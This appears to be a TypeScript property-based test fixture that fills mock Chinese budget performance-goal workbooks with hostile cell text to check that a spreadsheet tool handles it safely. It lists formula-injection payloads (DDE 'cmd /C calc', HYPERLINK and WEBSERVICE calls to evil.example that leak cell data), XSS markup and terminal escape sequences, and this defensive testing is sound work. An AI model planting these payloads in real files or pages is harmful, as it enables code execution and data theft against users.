/** Texts that attack whoever shows, writes or prints them, and workbooks whose every text is one. */
import fc from "fast-check";
import type { SheetData, WorkbookData } from "../../src/sheet/data";
import { freeSheetName } from "../../src/sheet/sheet-name";
import { evaluationSheet, goalSheet, type Row } from "./forms";
import { nastyText } from "./nasty-text";

/** Taken for formulas, or for orders to another program. */
export const formulaTexts = [
  "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "'=1+1", "''=1+1", "'",
  "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "{=1+1}", "%0A=1+1", "=1+1;=2", '"=1+1"', '";=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")', '=HYPERLINK("file:///c:/windows/system32/calc.exe","打开")', '=WEBSERVICE("http://evil.example")', "='http://evil.example/[a.xlsx]表'!A1", "=[a.xlsx]表!A1",
  '"&WEBSERVICE("http://evil.example")&"', "'!A1+cmd|'/C calc'!A0+'",
] as const;

/** Taken for markup or for a link. */
export const markupTexts = [
  "<img src=x onerror=\"window.hit=1\">", "<script>window.hit=1</script>", "\"><svg onload=window.hit=1>", "'><iframe srcdoc='<script>parent.hit=1</script>'>", "</style><script>window.hit=1</script>",
  "</textarea><img src=http://evil.example/x.png>", "javascript:window.hit=1", "<a href=\"javascript:window.hit=1\">点这里</a>", "[点这里](javascript:window.hit=1)", "![](http://evil.example/x.png)", "{0}{{1}}${hit}<%= hit %>", "&lt;b&gt;&amp;",
] as const;

/** Obeyed by terminals, or drawn in another order than written. */
export const controlTexts = ["\u001b]0;改名\u0007", "\u001b[2J\u001b[31m红", "\u009b31m红", "回车\r改写", "\u202e反的\u202c", "\u2066隔开\u2069", "\u0007\u0008\u007f", "\u001b]8;;http://evil.example\u0007链接\u001b]8;;\u0007"] as const;

export const hostileText: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...formulaTexts, ...markupTexts, ...controlTexts), nastyText);

/** Goal tables and a self-evaluation that are found and read, with such texts wherever a form leaves room for one; they are used in turn. */
export function hostileSheets(texts: readonly string[]): SheetData[] {
  const names: string[] = [];
  let used = 0;
  const next = (): string => texts[used++ % texts.length] ?? "";
  const free = (): string => {
    names.push(freeSheetName(next(), names));
    return names.at(-1) ?? "";
  };
  const goals = (): Row[] => [
    ["产出指标", "数量指标", next(), next(), `≥12 ${next()}`, next()],
    ["", "质量指标", next(), next(), next(), next()],
    ["", "时效指标", next(), "", `${next()}12月底前`, ""],
    ["", next(), next(), next(), "≥3 ", next()],
    ["效益指标", "社会效益指标", next(), next(), next(), next()],
    ["满意度指标", "服务对象满意度指标", next(), next(), "≤90%", next()],
  ];
  const goal = (): SheetData => goalSheet({ sheet: free(), title: `${next()}绩效目标表`, code: next(), name: next(), total: 80, fiscal: 70, rows: goals() });
  const evaluation = evaluationSheet({
    sheet: free(),
    title: `专项预算项目绩效目标完成情况自评表${next()}`,
    rows: [
      ["产出指标", "数量指标", next(), "≥", 12, next(), 20, 11],
      ["", "质量指标", next(), next(), next(), next(), 30, next()],
      ["效益指标", "社会效益指标", next(), "定性", next(), "", 50, next()],
    ],
  });
  return [goal(), goal(), evaluation];
}

/** Which cells hold hostile text no less than others. */
export const hostileWorkbook = (texts: readonly string[]): WorkbookData => ({ name: "敌意.xlsx", sheets: hostileSheets(texts) });

/** A few at random, the whole list of each kind behind them. */
export const hostileMix: fc.Arbitrary<readonly string[]> = fc.array(hostileText, { minLength: 20, maxLength: 60 });
